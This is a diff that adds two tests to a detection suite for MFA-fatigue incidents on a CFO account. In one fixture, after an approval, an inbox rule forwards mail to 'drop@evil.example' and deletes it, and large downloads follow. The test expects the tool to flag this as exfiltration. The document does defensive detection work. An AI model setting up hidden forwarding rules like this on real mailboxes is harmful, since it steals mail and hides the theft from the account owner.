@@ -72,6 +72,47 @@ describe('an incident', () => {
     expect(asked('399284')).toContain('signed in as usual at 09:30:00 UTC.');
   });
 
+  it('is one where an approval after few refusals was used to send mail away, and calls it no clean attempt', () => {
+    for (const prompts of ['A', 'd A', 't t A']) {
+      const incident = only(
+        home()
+          .prompts(`cfo 09:00 +30s ${prompts}`, A)
+          .act('cfo', '09:20', 'mailbox', 'New-InboxRule', {
+            ip: A.ip,
+            parameters: { Name: '.', ForwardTo: 'drop@evil.example', DeleteMessage: 'True' },
+          })
+          .downloads('cfo', '09:30', 5_000, 70, A),
+      );
+      expect(incident).toMatchObject({ severity: 'high', outcome: 'attempted', counts: { approved: 1 } });
+      expect(incident.stages.map(({ stage }) => stage)).toContain('exfiltration');
+      expect(incident.summary).not.toContain('No approval was seen');
+    }
+  });
+
+  it('takes the place a report was made from for no attacker’s', () => {
+    const reported = (clock: string) =>
+      only(
+        home()
+          .prompts('cfo 09:00 +30s d d d d d d', A)
+          .act('cfo', clock, 'directory', 'Suspicious activity reported', {
+            mfaResult: 'fraud',
+            target: upn('cfo'),
+            ip: H.ip,
+          }),
+      );
+    expect(reported('09:20')).toMatchObject({
+      outcome: 'repelled',
+      ips: [A.ip],
+      counts: { prompts: 6, denied: 5, fraud: 1 },
+    });
+    // Hours later nothing ties it to one prompt, yet it is about this.
+    expect(reported('12:00')).toMatchObject({
+      outcome: 'repelled',
+      ips: [A.ip],
+      counts: { denied: 6, fraud: 1 },
+    });
+  });
+
   it('prints a reason for every point', () => {
     const { reasons, confidence } = only(scenarios.P01());
     const sum = reasons.reduce(
